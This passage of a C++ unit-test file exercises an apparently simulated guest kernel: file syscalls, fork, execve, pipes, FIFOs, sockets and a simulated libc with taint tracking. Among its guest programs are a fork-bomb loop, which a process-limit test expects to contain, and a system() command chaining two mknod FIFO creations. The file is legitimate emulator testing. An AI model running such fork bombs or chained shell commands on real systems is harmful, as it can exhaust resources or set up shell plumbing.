    Process &p = start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(p.stdoutData, "contents");
}

TEST_F(KernelTest, OpenMissingFileFails)
{
    Gasm a("/t/miss");
    a.dataString("path", "/no/such");
    a.label("main");
    a.entry("main");
    a.openSym("path", GO_RDONLY);
    a.mov(Reg::Ebx, Reg::Eax);      // exit code = open result
    a.sysc(NR_exit);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.exitCode, -ERR_NOENT);
}

TEST_F(KernelTest, CreatTruncatesAndWrites)
{
    Gasm a("/t/creat");
    a.dataString("path", "/out");
    a.dataString("msg", "fresh");
    a.label("main");
    a.entry("main");
    a.creatSym("path");
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "msg", 5);
    a.closeFd(Reg::Ebp);
    a.exit(0);
    kernel.vfs().addFile("/out", "old-stale-content");
    start(a);
    kernel.run();
    auto node = kernel.vfs().lookup("/out");
    ASSERT_NE(node, nullptr);
    EXPECT_EQ(std::string(node->content.begin(), node->content.end()),
              "fresh");
}

TEST_F(KernelTest, StdinRead)
{
    Gasm a("/t/stdin");
    a.dataSpace("buf", 16);
    a.label("main");
    a.entry("main");
    a.readSym(0, "buf", 16);
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.sysc(NR_write);
    a.readSym(0, "buf", 16);        // EOF now
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_exit);
    Process &p = start(a);
    p.stdinData = "typed";
    kernel.run();
    EXPECT_EQ(p.stdoutData, "typed");
    EXPECT_EQ(p.exitCode, 0); // EOF read returned 0
    EXPECT_EQ(kernel.stats().stdinBytesRead, 5u);
}

TEST_F(KernelTest, ForkReturnsZeroInChild)
{
    Gasm a("/t/fork");
    a.dataString("c", "C");
    a.dataString("p", "P");
    a.label("main");
    a.entry("main");
    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jz("child");
    a.writeSym(1, "p", 1);
    a.exit(0);
    a.label("child");
    a.writeSym(1, "c", 1);
    a.exit(0);
    Process &p = start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(kernel.processes().size(), 2u);
    Process &child = *kernel.processes()[1];
    EXPECT_EQ(p.stdoutData, "P");
    EXPECT_EQ(child.stdoutData, "C");
    EXPECT_EQ(child.ppid, p.pid);
}

TEST_F(KernelTest, ForkMemoryIsIndependent)
{
    Gasm a("/t/forkmem");
    a.dataSpace("slot", 4);
    a.label("main");
    a.entry("main");
    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jz("child");
    a.sleepTicks(2000);              // let the child write first
    a.leaSym(Reg::Esi, "slot");
    a.load(Reg::Ebx, Reg::Esi, 0);   // parent sees its own 0
    a.sysc(NR_exit);
    a.label("child");
    a.movi(Reg::Eax, 77);
    a.leaSym(Reg::Esi, "slot");
    a.store(Reg::Esi, 0, Reg::Eax);
    a.exit(0);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.exitCode, 0);        // not 77
}

TEST_F(KernelTest, WaitpidReapsChild)
{
    Gasm a("/t/wait");
    a.label("main");
    a.entry("main");
    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jz("child");
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_waitpid);
    a.mov(Reg::Ebx, Reg::Eax);       // exit code = reaped pid
    a.sysc(NR_exit);
    a.label("child");
    a.sleepTicks(500);
    a.exit(0);
    Process &p = start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(p.exitCode, kernel.processes()[1]->pid);
}

TEST_F(KernelTest, WaitpidNoChildrenFails)
{
    Gasm a("/t/waitnone");
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebx, -1);
    a.sysc(NR_waitpid);
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_exit);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.exitCode, -ERR_CHILD);
}

TEST_F(KernelTest, ExecveReplacesImage)
{
    Gasm t("/t/target");
    t.dataString("msg", "target!");
    t.label("main");
    t.entry("main");
    t.writeSym(1, "msg", 7);
    t.exit(0);
    auto target = t.build();
    kernel.vfs().addBinary("/t/target", target);

    Gasm a("/t/execver");
    a.dataString("prog", "/t/target");
    a.label("main");
    a.entry("main");
    a.execveSym("prog");
    a.exit(1);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.stdoutData, "target!");
    EXPECT_EQ(p.exitCode, 0);
    EXPECT_EQ(p.binaryPath, "/t/target");
}

TEST_F(KernelTest, ExecveFailuresReturnErrno)
{
    Gasm a("/t/execfail");
    a.dataString("missing", "/no/prog");
    a.dataString("plain", "/plain/file");
    a.dataSpace("codes", 8);
    a.label("main");
    a.entry("main");
    a.execveSym("missing");
    a.mov(Reg::Ebp, Reg::Eax);       // -ENOENT
    a.execveSym("plain");
    a.add(Reg::Eax, Reg::Ebp);       // -ENOENT + -ENOEXEC
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_exit);
    kernel.vfs().addFile("/plain/file", "just text");
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.exitCode, -(ERR_NOENT + ERR_NOEXEC));
}

TEST_F(KernelTest, PipeRoundTrip)
{
    Gasm a("/t/pipe");
    a.dataSpace("fds", 8);
    a.dataString("msg", "thru");
    a.dataSpace("buf", 8);
    a.label("main");
    a.entry("main");
    a.leaSym(Reg::Ebx, "fds");
    a.sysc(NR_pipe);
    a.leaSym(Reg::Esi, "fds");
    a.load(Reg::Ebp, Reg::Esi, 4);   // write fd
    a.writeFd(Reg::Ebp, "msg", 4);
    a.load(Reg::Ebp, Reg::Esi, 0);   // read fd
    a.readFd(Reg::Ebp, "buf", 8);
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.sysc(NR_write);
    a.exit(0);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.stdoutData, "thru");
}

TEST_F(KernelTest, FifoBlocksUntilWriterDelivers)
{
    // Reader opens the FIFO and blocks; a forked writer delivers.
    Gasm a("/t/fifo");
    a.dataString("path", "/f");
    a.dataString("msg", "wake");
    a.dataSpace("buf", 8);
    a.label("main");
    a.entry("main");
    a.openSym("path", GO_WRONLY);
    a.mov(Reg::Ebp, Reg::Eax);       // write end (held by both)
    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jz("writer");
    // Parent: read (blocks until the child writes).
    a.openSym("path", GO_RDONLY);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 8);
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.sysc(NR_write);
    a.exit(0);
    a.label("writer");
    a.sleepTicks(1000);
    a.writeFd(Reg::Ebp, "msg", 4);
    a.exit(0);
    kernel.vfs().createFifo("/f");
    Process &p = start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(p.stdoutData, "wake");
}

TEST_F(KernelTest, FifoEofWhenWritersGone)
{
    Gasm a("/t/fifoeof");
    a.dataString("path", "/f");
    a.dataSpace("buf", 8);
    a.label("main");
    a.entry("main");
    a.openSym("path", GO_RDONLY);    // no writers anywhere
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 8);
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_exit);
    kernel.vfs().createFifo("/f");
    Process &p = start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(p.exitCode, 0);        // EOF
}

TEST_F(KernelTest, DupSharesOffset)
{
    Gasm a("/t/dup");
    a.dataString("path", "/data/seq");
    a.dataSpace("buf", 4);
    a.label("main");
    a.entry("main");
    a.openSym("path", GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.mov(Reg::Ebx, Reg::Ebp);
    a.sysc(NR_dup);
    a.mov(Reg::Edi, Reg::Eax);       // duplicate fd
    a.readFd(Reg::Ebp, "buf", 2);    // reads "ab"
    a.readFd(Reg::Edi, "buf", 2);    // shared offset: reads "cd"
    a.writeFd(Reg::Ecx, "buf", 2);   // careful: use write below
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.movi(Reg::Edx, 2);
    a.sysc(NR_write);
    a.exit(0);
    kernel.vfs().addFile("/data/seq", "abcdef");
    Process &p = start(a);
    kernel.run();
    // Last two bytes written to stdout come from the second read.
    EXPECT_NE(p.stdoutData.find("cd"), std::string::npos);
}

TEST_F(KernelTest, BrkGrowsHeap)
{
    Gasm a("/t/brk");
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebx, 0);
    a.sysc(NR_brk);
    a.mov(Reg::Ebx, Reg::Eax);
    a.movi(Reg::Ecx, 0x1000);
    a.add(Reg::Ebx, Reg::Ecx);
    a.sysc(NR_brk);
    a.exit(0);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.brk, vm::Machine::HEAP_BASE + 0x1000);
}

TEST_F(KernelTest, GetpidAndPpid)
{
    Gasm a("/t/pids");
    a.label("main");
    a.entry("main");
    a.getpid();
    a.mov(Reg::Ebp, Reg::Eax);
    a.sysc(NR_getppid);
    a.add(Reg::Ebp, Reg::Eax);
    a.mov(Reg::Ebx, Reg::Ebp);
    a.sysc(NR_exit);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.exitCode, p.pid); // ppid of the root process is 0
}

TEST_F(KernelTest, KillTerminatesTarget)
{
    Gasm a("/t/kill");
    a.label("main");
    a.entry("main");
    a.fork();
    a.cmpi(Reg::Eax, 0);
    a.jz("victim");
    a.mov(Reg::Ebx, Reg::Eax);
    a.movi(Reg::Ecx, 9);
    a.sysc(NR_kill);
    a.exit(0);
    a.label("victim");
    a.sleepTicks(1000000);
    a.exit(0);
    start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(kernel.processes()[1]->exitCode, 128 + 9);
}

TEST_F(KernelTest, NanosleepAdvancesVirtualTime)
{
    Gasm a("/t/sleep");
    a.label("main");
    a.entry("main");
    a.sleepTicks(50000);
    a.exit(0);
    start(a);
    uint64_t before = kernel.now();
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_GE(kernel.now() - before, 50000u);
}

TEST_F(KernelTest, ProcessLimitStopsForkBombs)
{
    kernel.setProcessLimit(8);
    Gasm a("/t/bomb");
    a.label("main");
    a.entry("main");
    a.label("loop");
    a.fork();
    a.jmp("loop");
    start(a);
    EXPECT_EQ(kernel.run(2000000), RunStatus::TickLimit);
    EXPECT_LE(kernel.liveProcessCount(), 8u);
}

TEST_F(KernelTest, StallDetectedOnDeadlock)
{
    // Read from an empty FIFO while holding its only write end.
    Gasm a("/t/deadlock");
    a.dataString("path", "/f");
    a.dataSpace("buf", 4);
    a.label("main");
    a.entry("main");
    a.openSym("path", GO_RDWR);
    a.mov(Reg::Esi, Reg::Eax);
    a.readFd(Reg::Esi, "buf", 4);
    a.exit(0);
    kernel.vfs().createFifo("/f");
    start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Stalled);
}

TEST_F(KernelTest, UnlinkAndChmod)
{
    Gasm a("/t/meta");
    a.dataString("path", "/victim");
    a.label("main");
    a.entry("main");
    a.chmodSym("path");
    a.leaSym(Reg::Ebx, "path");
    a.sysc(NR_unlink);
    a.exit(0);
    kernel.vfs().addFile("/victim", "x");
    start(a);
    kernel.run();
    EXPECT_FALSE(kernel.vfs().exists("/victim"));
}

//
// Sockets end to end through the kernel
//

TEST_F(KernelTest, ClientServerWithinGuests)
{
    // A server guest and a client guest exchange one message.
    Gasm srv("/t/server");
    srv.dataString("addr", "LocalHost:9000");
    srv.dataSpace("buf", 16);
    srv.label("main");
    srv.entry("main");
    srv.sockCreate();
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "addr");
    srv.sockBind(Reg::Ebp, Reg::Edx);
    srv.sockListen(Reg::Ebp);
    srv.sockAccept(Reg::Ebp);
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "buf");
    srv.sockRecv(Reg::Ebp, Reg::Edx, 15);
    srv.mov(Reg::Edx, Reg::Eax);
    srv.movi(Reg::Ebx, 1);
    srv.leaSym(Reg::Ecx, "buf");
    srv.sysc(NR_write);
    srv.exit(0);
    auto server = srv.build();
    kernel.vfs().addBinary(server->path, server);
    Process &sp = kernel.spawn(server->path, {server->path});

    Gasm cli("/t/client");
    cli.dataString("addr", "LocalHost:9000");
    cli.dataString("msg", "over-the-wire");
    cli.label("main");
    cli.entry("main");
    cli.sleepTicks(200);         // let the server listen first
    cli.sockCreate();
    cli.mov(Reg::Ebp, Reg::Eax);
    cli.leaSym(Reg::Edx, "addr");
    cli.sockConnect(Reg::Ebp, Reg::Edx);
    cli.leaSym(Reg::Ecx, "msg");
    cli.movi(Reg::Edx, 13);
    cli.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    cli.exit(0);
    auto client = cli.build();
    kernel.vfs().addBinary(client->path, client);
    kernel.spawn(client->path, {client->path});

    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(sp.stdoutData, "over-the-wire");
    EXPECT_EQ(kernel.stats().socketBytesRead, 13u);
}

TEST_F(KernelTest, ConnectRefusedErrno)
{
    Gasm a("/t/refused");
    a.dataString("addr", "nowhere:1");
    a.label("main");
    a.entry("main");
    a.sockCreate();
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, "addr");
    a.sockConnect(Reg::Ebp, Reg::Edx);
    a.mov(Reg::Ebx, Reg::Eax);
    a.sysc(NR_exit);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.exitCode, -ERR_CONNREFUSED);
}

//
// Simulated libc
//

TEST_F(KernelTest, LibcStringRoutinesPreserveTaint)
{
    Gasm a("/t/libcstr");
    a.dataString("src", "alpha");
    a.dataSpace("dst", 32);
    a.dataSpace("num", 16);
    a.label("main");
    a.entry("main");
    a.libc2("strcpy", "dst", "src");
    a.libc2("strcat", "dst", "src");     // "alphaalpha"
    a.libc1("strlen", "dst");
    a.mov(Reg::Ebp, Reg::Eax);           // 10
    a.pushSym("num");
    a.push(Reg::Ebp);
    a.callImport("itoa");
    a.addi(Reg::Esp, 8);
    a.libc1("strlen", "num");
    a.mov(Reg::Edx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "num");
    a.sysc(NR_write);
    a.exit(0);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.stdoutData, "10");
}

TEST_F(KernelTest, SystemSpawnsRegisteredBinary)
{
    kernel.vfs().addBinary("/bin/echoer", [] {
        Gasm e("/bin/echoer");
        e.dataString("msg", "spawned");
        e.label("main");
        e.entry("main");
        e.writeSym(1, "msg", 7);
        e.exit(0);
        return e.build();
    }());

    Gasm a("/t/system");
    a.dataString("cmd", "/bin/echoer >out.txt");
    a.label("main");
    a.entry("main");
    a.libc1("system", "cmd");
    a.exit(0);
    start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    auto node = kernel.vfs().lookup("out.txt");
    ASSERT_NE(node, nullptr);
    EXPECT_EQ(std::string(node->content.begin(), node->content.end()),
              "spawned");
}

TEST_F(KernelTest, SystemMknodBuiltinCreatesFifo)
{
    Gasm a("/t/sysmknod");
    a.dataString("cmd", "/bin/mknod /pipe1 p; /bin/mknod /pipe2 p");
    a.label("main");
    a.entry("main");
    a.libc1("system", "cmd");
    a.exit(0);
    start(a);
    kernel.run();
    ASSERT_TRUE(kernel.vfs().exists("/pipe1"));
    ASSERT_TRUE(kernel.vfs().exists("/pipe2"));
    EXPECT_EQ(kernel.vfs().lookup("/pipe1")->kind,
              VfsNode::Kind::Fifo);
}

TEST_F(KernelTest, GethostbynameResolves)
{
    kernel.net().addHost("pop.mail.yahoo.com");
    Gasm a("/t/resolve");
    a.dataString("host", "pop.mail.yahoo.com");
    a.label("main");
    a.entry("main");
    a.libc1("gethostbyname", "host");
    a.mov(Reg::Ecx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.movi(Reg::Edx, 8);
    a.sysc(NR_write);
    a.exit(0);
    Process &p = start(a);
    kernel.run();
    EXPECT_EQ(p.stdoutData.substr(0, 7), "10.0.0.");
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
